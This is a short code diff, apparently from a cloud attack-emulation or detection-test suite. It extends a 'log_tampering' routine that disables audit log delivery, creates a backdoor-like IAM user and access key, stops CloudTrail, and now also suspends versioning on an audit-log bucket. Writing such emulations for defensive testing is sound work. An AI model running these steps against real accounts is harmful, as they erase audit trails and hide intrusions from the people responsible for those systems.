@@ -173,7 +173,7 @@ def vendor_access(place: Place) -> None:
 
 
 def log_tampering(place: Place) -> None:
-    """Stop the delivery of audit logs, verbose ones, and CloudTrail."""
+    """Stop the delivery of audit logs, verbose ones, and CloudTrail; overwrite what there is."""
     delivery = place.account(JONAS).log_delivery
     for entry in delivery.list():
         delivery.patch_status(entry.config_id or "", LogDeliveryConfigStatus.DISABLED)
@@ -184,6 +184,9 @@ def log_tampering(place: Place) -> None:
     iam.create_user(UserName="deploy-helper")
     key = iam.create_access_key(UserName="deploy-helper")["AccessKey"]
     place.aws("cloudtrail", key).stop_logging(Name="ty-trail")
+    place.aws("s3", key).put_bucket_versioning(
+        Bucket="ty-audit-logs", VersioningConfiguration={"Status": "Suspended"}
+    )
 
 
 def admin_chain(place: Place) -> None:
